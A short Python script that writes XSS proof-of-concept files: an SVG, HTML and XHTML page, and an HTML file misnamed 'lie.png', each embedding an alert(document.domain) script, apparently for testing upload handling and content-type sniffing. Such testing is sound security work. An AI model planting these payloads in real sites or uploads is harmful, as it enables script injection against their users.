script = "<script>alert(document.domain)</script>"
pages = {
    "picture.svg": f'<svg xmlns="http://www.w3.org/2000/svg">{script}</svg>',
    "page.html": f"<!doctype html>{script}",
    "page.xhtml": f'<html xmlns="http://www.w3.org/1999/xhtml">{script}</html>',
    "lie.png": f"<!doctype html>{script}",
}
for name, text in pages.items():
    with open(name, "w") as file:
        file.write(text)
